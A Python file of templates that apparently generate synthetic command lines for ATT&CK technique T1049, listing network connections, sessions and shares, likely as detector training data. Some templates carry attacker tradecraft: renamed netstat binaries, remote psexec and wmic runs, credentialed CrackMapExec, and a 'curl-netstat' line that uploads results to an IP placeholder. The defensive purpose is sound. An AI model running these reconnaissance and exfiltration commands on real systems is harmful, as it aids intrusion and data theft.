"""Templates of T1049: listing a machine's network connections, shares in use and sessions."""

from __future__ import annotations

from training.generators.grammar import parse_templates

CONNECTION_TEMPLATES = parse_templates(
    r"""
netstat-ano cmd: «netstat¦netstat.exe¦NETSTAT.EXE¦‹system32›\netstat.exe» «-ano¦-an¦-a¦-nao¦-naob¦-anob¦/ano¦-b¦-anop tcp¦-an -p tcp¦-aon»‹maybe›
netstat-plain cmd: «netstat¦netstat.exe¦NETSTAT.EXE»‹maybe›
netstat-find cmd: netstat «-ano¦-an¦-na¦-anb» | «find¦findstr¦findstr /i¦find /i» «"LISTENING"¦":‹port›"¦ESTABLISHED¦"ESTAB"¦‹ip›¦"TIME_WAIT"¦:‹port›»
netstat-loop cmd: for /f "tokens=5" %a in ('netstat -«ano¦aon» ^| «find¦findstr» ":‹port›"') do «echo %a¦tasklist /fi "pid eq %a"»
netstat-interval cmd: netstat «-an¦-ano» ‹n›‹maybe›
netstat-remote-psexec cmd: «psexec¦PsExec64.exe» \\‹server› «-s ¦-accepteula ¦»netstat «-ano¦-an»
netstat-winrs cmd: winrs -r:‹server› «netstat -ano¦netstat -an¦net session¦net use»
netstat-wmic-remote cmd: wmic /node:‹server› process call create "cmd /c netstat -«ano¦an» > ‹dir›\‹name›.txt"
netstat-sched cmd: schtasks /create /sc minute /mo ‹n› /tn ‹name› /tr "cmd /c netstat -ano >> ‹dir›\‹name›.txt"
netstat-chain cmd: «ipconfig /all¦hostname¦whoami¦arp -a¦route print» «&¦&&» netstat -«ano¦an¦nao»‹maybe›
netstat-renamed cmd: ‹dir›\‹name›.exe «-ano¦-anob¦-nao»
netstat-filter-proto cmd: netstat -«anp¦nap¦p» «tcp¦udp¦TCP¦tcpv6»« -b¦»
netstat-copied cmd: copy ‹system32›\netstat.exe ‹dir›\‹name›.exe & ‹dir›\‹name›.exe -ano
net-use cmd: «net¦net.exe¦net1¦‹system32›\net.exe» use‹maybe›
net-session cmd: «net¦net.exe¦net1¦‹system32›\net.exe» «session¦sessions¦sess»‹maybe›
net-session-named cmd: «net¦net1» «session¦sessions» «\\‹server›¦\\‹ip›¦/list¦\\‹server› /list»
net-use-session cmd: net use «&¦&&» net «session¦sessions»
net-use-find cmd: «net use¦net session¦net sessions» | «find¦findstr» «"\\"¦/i ok¦"OK"¦‹server›»
net-file cmd: «net file¦net1 file¦openfiles /query & net file»
net-rundll cmd: cmd /c "net use & net session & netstat -ano"
netsh-tcp cmd: netsh «interface¦int» «ipv4¦ip¦ipv6» show «tcpconnections¦tcpconn¦udpconnections»
netsh-http cmd: netsh http show «servicestate¦servicestate view=requestq» & netstat -ano
nbtstat-s cmd: «nbtstat¦nbtstat.exe» «-S¦-s¦-S ‹n›»
wmic-netuse cmd: wmic netuse «get¦list brief¦list full¦get LocalName,RemoteName¦get name,username,connectionstate»
wmic-serversession cmd: wmic path «Win32_ServerSession¦Win32_ServerConnection¦Win32_NetworkConnection» get «*¦ComputerName,UserName¦/all¦RemoteName»
wmic-node-netuse cmd: wmic /node:‹server› «netuse list brief¦netuse get RemoteName¦path Win32_NetworkConnection get RemoteName¦path Win32_ServerSession get UserName»
wmic-tcp cmd: wmic /namespace:\\root\StandardCimv2 path MSFT_NetTCPConnection get «LocalPort,RemoteAddress,RemotePort¦*»
tcpview cmd: ‹dir›\«tcpvcon.exe -a¦Tcpvcon64.exe -accepteula -acn¦tcpvcon.exe -an¦tcpview.exe /accepteula¦Tcpview64.exe¦cports.exe /stext ‹file›¦cports.exe /shtml ‹file›¦fport.exe»
psloggedon cmd: ‹dir›\«netsess.exe \\‹server›¦netsess.exe -h ‹server›¦SharpView.exe Get-NetSession -ComputerName ‹server›¦NetSess.exe /full»
curl-netstat cmd: netstat -ano > ‹dir›\‹name›.txt && curl -F "f=@‹dir›\‹name›.txt" http://‹ip›/
ps-get-nettcp powershell: «Get-NetTCPConnection¦get-nettcpconnection¦Get-NetTCPConnection -State Listen¦Get-NetTCPConnection -State Established¦Get-NetTCPConnection -LocalPort ‹port›¦Get-NetTCPConnection -RemotePort ‹port›»« | ft¦ | select LocalPort,RemoteAddress,OwningProcess¦ | Sort-Object RemoteAddress¦ | Export-Csv ‹file›¦ | Out-File ‹file›¦»
ps-nettcp-where powershell: Get-NetTCPConnection | «?¦Where-Object¦where» { $_.«State -eq 'Established'¦RemoteAddress -ne '0.0.0.0'¦LocalPort -eq ‹port›¦State -eq "Listen"» } | «select RemoteAddress, OwningProcess¦ft -AutoSize¦% { Get-Process -Id $_.OwningProcess }»
ps-nettcp-process powershell: Get-NetTCPConnection | Select-Object LocalAddress,RemoteAddress,@{n='«Process¦P»';e={(Get-Process -Id $_.OwningProcess).«ProcessName¦Path»}}
ps-get-netudp powershell: «Get-NetUDPEndpoint¦Get-NetUDPEndpoint | ft LocalPort,OwningProcess¦Get-NetUDPEndpoint; Get-NetTCPConnection»
ps-netstat powershell: «netstat -ano¦netstat -an | Select-String ":‹port›"¦netstat -ano | sls LISTENING¦$n = netstat -ano; $n¦& netstat.exe -ano | Out-File ‹file›¦netstat -an | Select-String 'ESTABLISHED'¦cmd /c netstat -ano»
ps-net-use powershell: «net use¦net session¦net use; net session¦& net.exe use¦net sessions | Out-String»
ps-get-smbconnection powershell: «Get-SmbConnection¦Get-SmbMapping¦Get-SmbConnection | fl *¦Get-SmbMapping | select LocalPath,RemotePath¦Get-SmbSession¦Get-SmbSession | select ClientComputerName,ClientUserName¦Get-SmbOpenFile»
ps-smb-remote powershell: Get-SmbSession -CimSession ‹server›« | ft¦ | select ClientUserName¦»
ps-invoke-netstat powershell: Invoke-Command -ComputerName ‹server› -ScriptBlock { «netstat -ano¦Get-NetTCPConnection¦net session¦Get-SmbSession» }
ps-wmi-connection powershell: «Get-WmiObject¦gwmi¦Get-CimInstance¦gcim» «-Class ¦»«Win32_NetworkConnection¦Win32_ServerConnection¦Win32_ServerSession»« -ComputerName ‹server›¦ | select RemoteName,UserName¦ | ft¦»
ps-cim-tcp powershell: Get-CimInstance -Namespace root/StandardCimv2 -ClassName «MSFT_NetTCPConnection¦MSFT_NetUDPEndpoint»« | ft LocalPort,RemoteAddress¦»
ps-ipglobal powershell: «[System.Net.NetworkInformation.IPGlobalProperties]¦[Net.NetworkInformation.IPGlobalProperties]»::GetIPGlobalProperties().«GetActiveTcpConnections()¦GetActiveTcpListeners()¦GetActiveUdpListeners()»« | select RemoteEndPoint,State¦ | ft¦»
ps-powerview-session powershell: «Get-NetSession¦Get-NetSession -ComputerName ‹server›¦Invoke-UserHunter -Stealth; Get-NetSession¦Get-NetLoggedon -ComputerName ‹server›; Get-NetSession -ComputerName ‹server›¦. .\PowerView.ps1; Get-NetSession -ComputerName ‹server›»
ps-remote-desktop powershell: Get-NetTCPConnection -LocalPort 3389 -State Established -ErrorAction SilentlyContinue
ps-seatbelt-tcp powershell: «.\¦& ‹dir›\»Seatbelt.exe «TcpConnections¦UdpConnections¦TcpConnections UdpConnections NetworkShares»
seatbelt-tcp cmd: ‹dir›\«Seatbelt¦‹name›».exe «TcpConnections¦UdpConnections TcpConnections¦-group=remote TcpConnections»
ps-loop-netstat powershell: while ($true) { «Get-NetTCPConnection -State Established | Export-Csv ‹file› -Append¦netstat -ano >> ‹file›»; Start-Sleep ‹n› }
linux-netstat bash: «netstat¦sudo netstat¦/bin/netstat» «-tulpn¦-antp¦-an¦-ant¦-tnp¦-plunt¦-a¦-anp¦-tan¦-natup¦-lntp»‹lmaybe›
linux-netstat-grep bash: netstat «-antp¦-tulpn¦-an¦-ant» | grep «LISTEN¦ESTAB¦":‹port›"¦-i established¦-v 127.0.0.1»
linux-netstat-awk bash: netstat -«ntu¦ant» | awk '{print $5}' | cut -d: -f1 | sort | uniq -c« | sort -n¦»
linux-ss bash: «ss¦sudo ss¦/usr/sbin/ss» «-tulpn¦-antp¦-tan¦-ltn¦-ntp state established¦-plnt¦-tunap¦-anp¦-x¦-o state established¦-l»‹lmaybe›
linux-ss-grep bash: ss «-tulpn¦-antp¦-tn» | grep «LISTEN¦ESTAB¦:‹port›¦-v 127.0.0.1»
linux-ss-filter bash: ss -«tn¦ant¦o» «state established¦dst ‹ip›¦sport = :‹port›¦'( dport = :‹port› or sport = :‹port› )'»
linux-lsof-i bash: «lsof¦sudo lsof¦/usr/bin/lsof» «-i¦-i -P -n¦-nPi¦-i tcp¦-iTCP -sTCP:LISTEN¦-i :‹port›¦-i4 -n¦-iTCP -sTCP:ESTABLISHED -n -P¦-i @‹ip›»‹lmaybe›
linux-proc-tcp bash: «cat¦head¦less¦awk '{print $3}'» /proc/«net/tcp¦net/udp¦net/tcp6¦net/unix¦‹pid›/net/tcp»‹lmaybe›
linux-fuser bash: fuser «-n tcp ‹port›¦‹port›/tcp¦-v -n tcp ‹port›»; netstat -antp
linux-who-netstat bash: «w; netstat -an¦who -a; ss -tulpn¦last; netstat -antp»
linux-conntrack bash: «conntrack -L¦sudo conntrack -L -p tcp¦cat /proc/net/nf_conntrack¦conntrack -L -f ipv4; ss -tn»
linux-smbstatus bash: «smbstatus¦smbstatus -S¦smbstatus -b¦sudo smbstatus --shares»‹lmaybe›
linux-showmount bash: «showmount -a¦showmount -a ‹ip›¦showmount --all ‹server›»
linux-ssh-netstat bash: ssh ‹first›@‹ip› '«netstat -antp¦ss -tulpn¦lsof -i -P¦netstat -an»'
linux-docker-netstat bash: «docker exec ‹word›¦podman exec ‹word›¦kubectl exec ‹word›-‹n› --» «netstat -tulpn¦ss -tunap¦netstat -an»
linux-watch bash: watch «-n ‹n› ¦»«'netstat -antp'¦'ss -tn'¦"netstat -an | grep ESTAB"»
linux-busybox bash: busybox netstat «-an¦-tulpn¦-ant»
linux-python bash: python3 -c "import psutil; «print(psutil.net_connections())¦[print(c) for c in psutil.net_connections(kind='inet')]»"
linux-sockstat bash: «sockstat -4¦sockstat -l¦sockstat -4 -l -p ‹port›¦cat /proc/net/sockstat; ss -a»
mac-netstat bash: «netstat -anv¦netstat -an -p tcp¦netstat -anv | grep LISTEN¦nettop -m tcp -L 1¦lsof -nP -iTCP -sTCP:LISTEN¦lsof -i | grep ESTABLISHED»
cme-sessions bash: «crackmapexec¦cme¦nxc¦netexec» smb «‹ip›¦‹ip›/24» -u ‹user› -p '‹pass›' «--sessions¦--smb-sessions¦--reg-sessions»
netview bash: «netview.py ‹domain›/‹user›:'‹pass›'¦impacket-netview ‹domain›/‹user› -target ‹ip›¦netview.py -target ‹ip› ‹domain›/‹user›»
esxcli-conn bash: esxcli network ip connection list
cisco-tcp text: «show tcp brief¦show ip sockets¦show users; show tcp brief all¦show sessions; show tcp»
"""
)
